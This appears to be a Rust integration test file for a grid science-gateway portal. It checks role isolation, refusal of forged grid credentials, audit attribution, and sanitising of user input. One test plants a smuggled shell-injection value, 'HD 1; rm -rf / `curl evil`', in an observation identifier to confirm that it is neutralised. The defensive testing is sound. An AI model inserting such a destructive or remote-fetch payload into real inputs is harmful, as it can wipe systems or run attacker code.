//! F2/S1 integration: Figure 2's isolation — the public portal holds no
//! credentials and cannot touch grid state; all input is marshaled through
//! typed tables; every grid request is attributable to a gateway user.

use amp::portal::{Portal, PortalConfig, Request};
use amp::prelude::*;

fn deployment() -> amp::gridamp::Deployment {
    amp::gridamp::deploy(amp::grid::systems::kraken(), DaemonConfig::default(), None).unwrap()
}

#[test]
fn web_role_cannot_touch_grid_state() {
    let dep = deployment();
    let web = dep.db.connect(amp::core::roles::ROLE_WEB).unwrap();
    // every grid-side table denies writes to the portal role
    assert!(web.insert("grid_job", &[]).is_err());
    assert!(web.update("allocation", 1, &[]).is_err());
    assert!(web.delete("simulation", 1).is_err());
    // unknown tables are denied outright (default-deny)
    assert!(web.select("secrets", &Query::new()).is_err());
}

#[test]
fn public_portal_has_no_admin_connection_and_no_admin_routes() {
    let dep = deployment();
    let portal = Portal::new(&dep.db, PortalConfig::default()).unwrap();
    assert!(portal.admin_conn().is_none());
    assert_eq!(portal.handle(&Request::get("/admin")).status, 404);
    assert_eq!(
        portal
            .handle(&Request::post("/admin/users/1/approve", &[]))
            .status,
        404
    );
}

#[test]
fn compromised_web_tier_cannot_forge_grid_requests() {
    // Even with the web connection fully in hand (a "root compromise of
    // the web server", §3), the attacker has no community credential: any
    // proxy they mint themselves is rejected by every site.
    let dep = deployment();
    let mallory_cred = amp::grid::CommunityCredential::new("/CN=mallory web shell");
    let proxy = mallory_cred.issue_proxy("mallory", dep.grid.now(), SimDuration::from_hours(10.0));
    let err = dep
        .grid
        .gram_submit(
            "kraken",
            &proxy,
            GramJobSpec {
                service: GramService::Batch,
                executable: "/amp/bin/mpikaia".into(),
                args: vec!["evil".into()],
                workdir: "pwned".into(),
                cores: 1,
                walltime: SimDuration::from_minutes(5.0),
                depends_on: vec![],
                name: "evil".into(),
                submission_id: None,
            },
        )
        .unwrap_err();
    assert!(matches!(err, GridError::NotAuthorized { .. }));
    let ftp = dep
        .grid
        .ftp_put("kraken", &proxy, "evil.sh", b"#!/bin/sh".to_vec())
        .unwrap_err();
    assert!(matches!(ftp, GridError::NotAuthorized { .. }));
}

#[test]
fn only_wellformed_input_files_reach_the_grid() {
    // The daemon regenerates input files from typed DB rows; whatever a
    // user typed, the staged file parses under the rigid grammar.
    let mut dep = deployment();
    let truth = StellarParams {
        mass: 1.05,
        metallicity: 0.02,
        helium: 0.27,
        alpha: 2.0,
        age: 4.0,
    };
    let (user, star, alloc, obs_id) =
        amp::gridamp::seed_fixtures(&dep.db, "kraken", &truth, 4).unwrap();

    // poison the observation identifier with shell metacharacters via the
    // typed row (worst case: attacker wrote the text column directly)
    let admin = dep.db.connect(amp::core::roles::ROLE_ADMIN).unwrap();
    let observations = Manager::<Observation>::new(admin.clone());
    let mut obs = observations.get(obs_id).unwrap();
    let mut observed = obs.observed().unwrap();
    observed.identifier = "HD 1; rm -rf / `curl evil`".into();
    obs.data_json = serde_json::to_string(&observed).unwrap();
    observations.save(&obs).unwrap();

    let web = dep.db.connect(amp::core::roles::ROLE_WEB).unwrap();
    let spec = OptimizationSpec {
        ga_runs: 1,
        population: 16,
        generations: 10,
        cores_per_run: 128,
        seed: 1,
    };
    let mut sim = Simulation::new_optimization(star, user, spec, obs_id, "kraken", alloc, 0);
    Manager::<Simulation>::new(web).create(&mut sim).unwrap();

    // run a few ticks so the input file gets staged
    for _ in 0..4 {
        dep.daemon.tick(&dep.grid);
        dep.grid.advance(SimDuration::from_secs(300));
    }
    let fs = &dep.grid.site("kraken").unwrap().fs;
    let staged = fs
        .read(&format!("amp/sim{}/run0/observations.in", sim.id.unwrap()))
        .expect("input staged");
    let text = String::from_utf8_lossy(staged);
    // metacharacters never cross the boundary
    assert!(!text.contains(';'));
    assert!(!text.contains('`'));
    assert!(!text.contains('/'));
    // and the staged file still parses under the rigid grammar
    let parsed = amp::core::parse_observation_file(&text).unwrap();
    assert!(parsed.identifier.starts_with("HD 1_"));
}

#[test]
fn audit_trail_disambiguates_community_users() {
    let mut dep = deployment();
    let truth = StellarParams {
        mass: 1.0,
        metallicity: 0.02,
        helium: 0.27,
        alpha: 2.0,
        age: 4.0,
    };
    let (_user, star, alloc, _obs) =
        amp::gridamp::seed_fixtures(&dep.db, "kraken", &truth, 5).unwrap();

    // add a second astronomer with their own simulation
    let admin = dep.db.connect(amp::core::roles::ROLE_ADMIN).unwrap();
    let users = Manager::<AmpUser>::new(admin.clone());
    let mut u2 = AmpUser::new("astro2", "a2@x.edu", "h", 0);
    u2.approved = true;
    let u2_id = users.create(&mut u2).unwrap();

    let sims = Manager::<Simulation>::new(admin);
    let mut s1 = Simulation::new_direct(star, 1, StellarParams::sun(), "kraken", alloc, 0);
    sims.create(&mut s1).unwrap();
    let mut s2 = Simulation::new_direct(star, u2_id, StellarParams::sun(), "kraken", alloc, 0);
    sims.create(&mut s2).unwrap();

    dep.daemon.run_until_settled(&dep.grid, 48.0);

    let audit = dep.grid.audit();
    assert!(audit.fully_attributed());
    // both users appear, under the same community subject
    assert!(audit.by_user("astro1").count() >= 3);
    assert!(audit.by_user("astro2").count() >= 3);
    let subjects: std::collections::BTreeSet<&str> =
        audit.records().iter().map(|r| r.subject.as_str()).collect();
    assert_eq!(subjects.len(), 1, "one community credential for all users");
}

#[test]
fn portal_pages_never_mention_grid_jargon() {
    let dep = deployment();
    let portal = Portal::new(&dep.db, PortalConfig::default()).unwrap();
    for path in [
        "/",
        "/stars",
        "/simulations",
        "/accounts/login",
        "/accounts/register",
    ] {
        let body = portal.handle(&Request::get(path)).body_str().to_lowercase();
        for word in ["certificate", "globus", "gridftp", "proxy", "gram"] {
            assert!(!body.contains(word), "{path} mentions {word}");
        }
    }
}
